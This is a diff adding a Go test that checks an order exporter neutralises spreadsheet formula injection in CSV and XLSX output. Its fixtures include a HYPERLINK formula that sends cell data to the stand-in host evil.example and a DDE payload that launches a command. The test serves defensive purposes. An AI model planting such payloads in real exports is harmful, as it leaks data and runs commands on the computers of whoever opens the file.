@@ -203,3 +203,86 @@ func TestExportFileReportsProgressAndCancelsCleanly(t *testing.T) {
 		}
 	}
 }
+
+// TestExportedFormulasAreInert: a buyer's name or remark from a shop
+// back-end that a spreadsheet would run is written as text in CSV (a
+// leading apostrophe) and as a text cell, never a formula, in XLSX;
+// numbers stay numbers.
+func TestExportedFormulasAreInert(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, `=cmd|' /C calc'!A0`, `@SUM(1)`, `+1+1`, `-2+3`, "\t=1+1", "\r=1+1"}
+	for _, s := range hostile {
+		if got := InertCSV(s); !strings.HasPrefix(got, "'") || got[1:] != s {
+			t.Errorf("InertCSV(%q) = %q", s, got)
+		}
+	}
+	for _, s := range []string{"-1", "+8.5", "9300501", "王小蒙", "", "a=b"} {
+		if got := InertCSV(s); got != s {
+			t.Errorf("InertCSV(%q) = %q, want it unchanged", s, got)
+		}
+	}
+
+	ctx := context.Background()
+	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "history.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	for i, name := range hostile[:4] {
+		if err := db.CopyOrder(ctx, &store.Order{OrderID: fmt.Sprintf("F-%d", i), DeliveryID: "ZTO", Status: store.StatusFailed,
+			Request: json.RawMessage(`{}`), ReceiverName: name, ErrorCode: -1, ErrorMsg: "=1+1"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var buf bytes.Buffer
+	if _, err := Export(ctx, db, store.OrderQuery{}, FormatCSV, &buf); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range recs[1:] {
+		for i, v := range r {
+			if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) {
+				t.Errorf("CSV cell %q (%s) would run as a formula", v, recs[0][i])
+			}
+		}
+		if r[13] != "-1" {
+			t.Errorf("errcode %q, want the number -1", r[13])
+		}
+	}
+
+	buf.Reset()
+	if _, err := Export(ctx, db, store.OrderQuery{}, FormatXLSX, &buf); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	sheet := f.GetSheetList()[0]
+	rows, _ := f.GetRows(sheet)
+	for r := 2; r <= len(rows); r++ {
+		for c := 1; c <= len(rows[0]); c++ {
+			ref, _ := excelize.CoordinatesToCellName(c, r)
+			if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
+				t.Errorf("XLSX %s holds the formula %q", ref, formula)
+			}
+		}
+	}
+	names := map[string]bool{}
+	for r := 2; r <= 5; r++ {
+		ref, _ := excelize.CoordinatesToCellName(8, r) // 收件人 receiver_name
+		v, _ := f.GetCellValue(sheet, ref)
+		if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("XLSX receiver %s = %q is of cell type %v, want a text cell", ref, v, typ)
+		}
+		names[v] = true
+	}
+	for _, s := range hostile[:4] {
+		if !names[s] {
+			t.Errorf("XLSX lost the receiver text %q (has %v)", s, names)
+		}
+	}
+}
